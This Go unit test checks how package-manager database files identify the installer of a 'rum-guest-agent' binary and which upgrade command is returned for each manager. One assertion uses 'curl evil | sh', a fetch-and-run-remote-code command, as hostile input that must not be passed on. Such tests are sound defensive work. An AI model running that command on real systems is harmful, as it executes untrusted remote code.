package packagers

import (
	"os"
	"path/filepath"
	"testing"
)

func TestAnAgentOfAPackageIsKnownByWhatItsPackageManagerKeeps(t *testing.T) {
	for file, want := range map[string]struct{ name, command string }{
		"var/lib/dpkg/info/rum-guest-agent.list":        {"dpkg", "sudo apt-get install ./rum-guest-agent_*.deb"},
		"var/lib/dpkg/info/rum-guest-agent:amd64.list":  {"dpkg", "sudo apt-get install ./rum-guest-agent_*.deb"},
		"usr/lib/sysimage/rpm/rpmdb.sqlite":             {"rpm", "sudo dnf install ./rum-guest-agent-*.rpm"},
		"var/lib/rpm/rpmdb.sqlite":                      {"rpm", "sudo dnf install ./rum-guest-agent-*.rpm"},
		"lib/apk/db/installed":                          {"apk", "sudo apk upgrade rum-guest-agent"},
		"var/lib/pacman/local/rum-guest-agent-1-1/desc": {"pacman", "sudo pacman -S rum-guest-agent"},
		"var/lib/dpkg/info/bash.list":                   {},
	} {
		root := t.TempDir()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, file)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, file), nil, 0o600); err != nil {
			t.Fatal(err)
		}
		if got := OfAgent(root, "/usr/bin/rum-guest-agent"); got != want.name {
			t.Errorf("%s: %q, want %q", file, got, want.name)
		}
		if got := Upgrading(want.name); got != want.command {
			t.Errorf("%s: %q, want %q", file, got, want.command)
		}
		if got := OfAgent(root, "/usr/local/bin/rum-guest-agent"); got != "" {
			t.Errorf("%s: one that was installed by the host is said to be of %s", file, got)
		}
	}
	if got := Upgrading("curl evil | sh"); got != "" {
		t.Errorf("what a guest says is passed on as %q", got)
	}
}
